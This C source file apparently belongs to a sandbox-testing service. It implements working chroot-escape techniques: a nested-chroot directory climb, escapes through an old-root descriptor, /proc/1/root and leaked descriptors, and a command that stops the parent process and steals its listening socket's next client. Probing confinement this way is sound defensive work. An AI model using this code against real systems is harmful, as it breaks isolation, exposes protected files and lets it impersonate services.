/* Ways out of a directory that chroot has made the root, and what a launcher leaves open for its children. */
#define _GNU_SOURCE
#include "service.h"

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <unistd.h>

enum { DEEPEST = 64, FIRST_LEFT_OPEN = 3, MOST_DESCRIPTORS = 256, PATIENCE_MS = 3000 };

/* chroot moves the root and not the working directory: from outside of the new root, .. leads past the old one. */
static bool climb(void)
{
	for (int i = 0; i < DEEPEST; i++)
		if (chdir("..") != 0)
			return false;
	return chroot(".") == 0;
}

/* !escape PATH : any directory will do, and it need not be made. */
static void escape(const struct request *request)
{
	if (chroot("/tmp") != 0 || !climb())
		answer_errno("escape");
	else
		answer_file("escape", open(word(request, 1), O_RDONLY));
}

/* !escape-fd PATH : the same by a descriptor of the old root. */
static void escape_by_descriptor(const struct request *request)
{
	int old = open("/", O_RDONLY | O_DIRECTORY);
	if (old < 0 || chdir("/tmp") != 0 || chroot("/tmp") != 0 || fchdir(old) != 0 || !climb())
		answer_errno("escape-fd");
	else
		answer_file("escape-fd", open(word(request, 1), O_RDONLY));
}

/* !escape-mount PATH : /proc has the root of the first process. It may be there already. */
static void escape_by_mount(const struct request *request)
{
	char path[LINE_SIZE + 32];
	int failed = mount("proc", "/proc", "proc", 0, NULL) != 0 ? errno : 0;
	snprintf(path, sizeof path, "/proc/1/root%s", word(request, 1));
	int file = open(path, O_RDONLY);
	if (file < 0 && failed != 0)
		errno = failed;
	answer_file("escape-mount", file);
}

/* !root-of PID PATH */
static void root_of(const struct request *request)
{
	char path[LINE_SIZE + 32];
	snprintf(path, sizeof path, "/proc/%ld/root%s", number(request, 1, 1 << 22), word(request, 2));
	answer_file("root-of", open(path, O_RDONLY));
}

/* !fds PATH : a directory that the launcher left open is a door through every wall. */
static void by_left_descriptors(const struct request *request)
{
	const char *path = word(request, 1);
	while (*path == '/')
		path++;
	int reason = EBADF;
	for (int fd = FIRST_LEFT_OPEN; fd < MOST_DESCRIPTORS; fd++) {
		int file = openat(fd, path, O_RDONLY);
		if (file >= 0) {
			answer_file("fds", file);
			return;
		}
		if (errno != EBADF && errno != ENOTDIR)
			reason = errno;
	}
	errno = reason;
	answer_errno("fds");
}

/* The first left open descriptor that listens, or -1. */
static int left_listener(void)
{
	for (int fd = FIRST_LEFT_OPEN; fd < MOST_DESCRIPTORS; fd++) {
		int listening = 0;
		socklen_t size = sizeof listening;
		if (getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &listening, &size) == 0 && listening)
			return fd;
	}
	return -1;
}

/* Answers the next client of the listener in the launcher's place. */
static void take_from(int listener)
{
	struct pollfd waiting[] = {{.fd = listener, .events = POLLIN}, {.fd = 0, .events = POLLRDHUP}};
	answer("steal", "waiting");
	poll(waiting, 2, PATIENCE_MS);
	int client = waiting[0].revents != 0 ? accept(listener, NULL, NULL) : -1;
	if (client < 0) {
		answer("steal", "nobody came");
		return;
	}
	char line[LINE_SIZE];
	ssize_t length = read(client, line, sizeof line - 1);
	write_all(client, "fake answer\n", 12);
	close(client);
	line[length > 0 ? length : 0] = '\0';
	line[strcspn(line, "\n")] = '\0';
	answer("stolen", line);
}

/* !steal : the listening socket that the launcher left open gives this process the next clients as well. */
static void steal(const struct request *request)
{
	(void)request;
	int listener = left_listener();
	if (listener < 0) {
		answer("steal", "EBADF");
		return;
	}
	/* The first to wake up has the client. A thief who is root lets the launcher sleep. */
	kill(getppid(), SIGSTOP);
	take_from(listener);
	kill(getppid(), SIGCONT);
}

const struct command jail_commands[] = {
	{"!escape", escape},   {"!escape-fd", escape_by_descriptor}, {"!escape-mount", escape_by_mount},
	{"!root-of", root_of}, {"!fds", by_left_descriptors},        {"!steal", steal},
	{NULL, NULL},
};
